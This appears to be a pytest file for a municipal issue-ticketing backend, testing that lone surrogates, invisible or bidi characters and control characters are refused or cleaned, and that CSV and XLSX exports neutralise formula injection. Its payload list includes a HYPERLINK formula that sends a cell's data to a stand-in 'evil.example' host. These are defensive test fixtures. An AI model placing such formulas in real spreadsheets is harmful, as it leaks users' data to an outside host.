"""Everything people type is hostile: a text that would break a ticket, a ledger or an
answer is refused at the door (422 naming the field), and what was stored before is read
safely by every answer, CSV and XLSX."""
import csv
import io
import json
import os

import pytest
from openpyxl import load_workbook

from conftest import finding_payload
from lifecycle_helpers import dispatched

FINDINGS = "/api/v1/mobile/findings"
on_mongomock_only = pytest.mark.skipif(
    bool(os.environ.get("MONGODB_URI")), reason="real MongoDB refuses to store a lone surrogate (BSON is UTF-8)")


def post_raw(api, path, body, as_):
    """The body as a phone's JSON library writes it: a lone surrogate as the escape \\ud800."""
    return api.post(path, as_=as_, data=json.dumps(body), content_type="application/json")


def assert_refused(response, field):
    body = response.get_json()
    assert response.status_code == 422, body
    assert body["code"] == "invalid_input" and field in body["errors"], body
    return body


@pytest.mark.parametrize("field", ["title", "description", "fact_basis", "policy_basis", "responsibility_basis"])
def test_a_lone_surrogate_in_a_finding_is_422_naming_the_field(app, api, field):
    payload = finding_payload(api.task_id("inspector1"), **{field: "路面坑洼\ud800"})
    assert_refused(post_raw(api, FINDINGS, payload, "inspector1"), field)
    from backend.models import Finding
    with app.app_context():
        assert Finding.objects.count() == 0


@pytest.mark.parametrize("action, body", [
    ("claim", {"note": "签收\ud800"}),
    ("progress", {"note": "已施工\udfff"}),
    ("return", {"reason_code": "not_our_duty", "reason": "不归我们\ud800管"}),
])
def test_a_lone_surrogate_in_a_note_or_reason_is_422_and_the_ticket_still_reads(api, submit, run_jobs, action, body):
    ticket = dispatched(api, submit, run_jobs)
    if action == "progress":
        assert api.post(f"/api/v1/tickets/{ticket['id']}/claim", as_="dept-transport", json={}).status_code == 200
    field = "reason" if action == "return" else "note"
    assert_refused(post_raw(api, f"/api/v1/tickets/{ticket['id']}/{action}", body, "dept-transport"), field)
    assert api.get(f"/api/v1/tickets/{ticket['id']}", as_="office").status_code == 200


@pytest.mark.parametrize("title", [
    "   ", "\u200b", "\u200b\u200c\ufeff ", "\u202e地址错误", "路面\u202d坑洼", "\x00", "路面坑洼\x00",
])
def test_blank_or_deceptive_titles_are_refused(api, title):
    payload = finding_payload(api.task_id("inspector1"), title=title)
    assert_refused(post_raw(api, FINDINGS, payload, "inspector1"), "title")


def test_control_characters_are_dropped_and_text_is_nfc(app, api):
    payload = finding_payload(api.task_id("inspector1"), title="  路面\x0b坑洼\x07 cafe\u0301  ",
                              description="第一行\r\n第二行\t缩进\x1b")
    r = post_raw(api, FINDINGS, payload, "inspector1")
    assert r.status_code == 201, r.get_json()
    finding = r.get_json()
    assert finding["title"] == "路面\n坑洼 café"
    assert finding["description"] == "第一行\n第二行\t缩进"


def test_a_routing_rule_keyword_or_a_user_name_is_cleaned_too(api):
    rule = {"name": "道路", "department_code": "transport", "keywords": ["\u202e路"]}
    assert_refused(post_raw(api, "/api/v1/routing/rules", rule, "admin"), "keywords")
    user = {"username": "clerk1", "password": "long-enough-1", "role": "office", "display_name": "\u200b"}
    assert_refused(post_raw(api, "/api/v1/users", user, "admin"), "display_name")
    login = {"username": "admin", "password": "pw\ud800"}
    assert_refused(post_raw(api, "/api/v1/auth/token", login, None), "password")
    unknown = post_raw(api, "/api/v1/tickets/" + "0" * 24 + "/assign",
                       {"department_code": "trans\ud800port"}, "office")
    assert_refused(unknown, "department_code")


# ---------------------------------------------------------------- what is stored already

def _spoil(app, ticket_id, title=None, note=None):
    """Text stored before the door was closed (raw writes, as an old version let through:
    a progress note pushed with its event, as the claim/progress notes were)."""
    from backend.models import Ticket, TicketEvent
    from backend.models.common import utcnow
    with app.app_context():
        if title is not None:
            Ticket.objects(id=ticket_id).update_one(set__title=title, set__description=title)
        if note is not None:
            event = TicketEvent(seq=99, action="progress", at=utcnow(), actor_name="dept-transport",
                                actor_role="department", from_status="dispatched", to_status="dispatched",
                                note=note, data={"step_title": note})
            Ticket.objects(id=ticket_id).update_one(push__events=event)


def _xlsx(api, run_jobs):
    export = api.post("/api/v1/stats/exports", as_="office", json={"format": "xlsx"}).get_json()
    run_jobs()
    done = api.get(f"/api/v1/stats/exports/{export['id']}", as_="office").get_json()
    assert done["status"] == "done", done
    return load_workbook(io.BytesIO(api.get(done["download_url"], as_="office").get_data()))


@on_mongomock_only
def test_a_stored_lone_surrogate_breaks_no_answer_and_no_ledger(app, api, submit, run_jobs):
    ticket = dispatched(api, submit, run_jobs)
    _spoil(app, ticket["id"], note="已施工\ud800，联系13812345678")
    detail = api.get(f"/api/v1/tickets/{ticket['id']}", as_="office")
    assert detail.status_code == 200, detail.data[:200]
    assert detail.get_json()["events"][-1]["note"] == "已施工\ufffd，联系138****5678"
    assert detail.get_json()["events"][-1]["data"]["step_title"].startswith("已施工\ufffd")
    ledger = api.get("/api/v1/stats/ledger.csv", as_="office")
    assert ledger.status_code == 200 and "已施工\ufffd，联系138****5678" in ledger.get_data().decode("utf-8")
    assert _xlsx(api, run_jobs)["民生实事"]["U2"].value == "已施工\ufffd，联系138****5678"


def test_stored_control_characters_never_fail_the_xlsx_export(app, api, submit, run_jobs):
    ticket = dispatched(api, submit, run_jobs)
    _spoil(app, ticket["id"], "路面\x0b坑洼\x00", "派单\x1b")
    assert api.get("/api/v1/stats/ledger.csv", as_="office").status_code == 200
    assert _xlsx(api, run_jobs)["民生实事"]["C2"].value == "路面坑洼"
    assert api.get(f"/api/v1/tickets/{ticket['id']}", as_="office").status_code == 200


# ---------------------------------------------------------------- formula injection (OWASP)

FORMULAS = ['=HYPERLINK("http://evil.example/?"&D2,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"]


def test_formulas_are_written_as_text_in_the_csv_and_the_xlsx(app, api, submit, run_jobs):
    for title in FORMULAS[:-1]:
        # a tab is trimmed at the door; it can only arrive from stored text
        dispatched(api, submit, run_jobs, title=title.strip(), description="描述")
    ticket = dispatched(api, submit, run_jobs)
    _spoil(app, ticket["id"], title="\t=1+1")

    raw = api.get("/api/v1/stats/ledger.csv", as_="office").get_data().decode("utf-8-sig")
    titles = [row[2] for row in list(csv.reader(io.StringIO(raw)))[1:]]
    assert sorted(titles) == sorted("'" + t for t in FORMULAS)

    sheet = _xlsx(api, run_jobs)["民生实事"]
    cells = [sheet.cell(row=r, column=3) for r in range(2, sheet.max_row + 1)]
    assert all(c.data_type == "s" for c in cells)
    assert sorted(c.value for c in cells) == sorted("'" + t for t in FORMULAS)


# ---------------------------------------------------------------- the functions themselves

def test_a_spreadsheet_cell_is_encodable_xml_safe_text_that_never_starts_a_formula():
    from backend.domain.text import spreadsheet_cell
    assert spreadsheet_cell("a\ud800b") == "a\ufffdb"
    assert spreadsheet_cell("\x01=1+1") == "'=1+1"
    assert spreadsheet_cell("\r=1") == "'\r=1"
    assert spreadsheet_cell("-3") == "'-3" and spreadsheet_cell(-3) == -3 and spreadsheet_cell(None) == ""
    assert spreadsheet_cell("路面坑洼") == "路面坑洼"
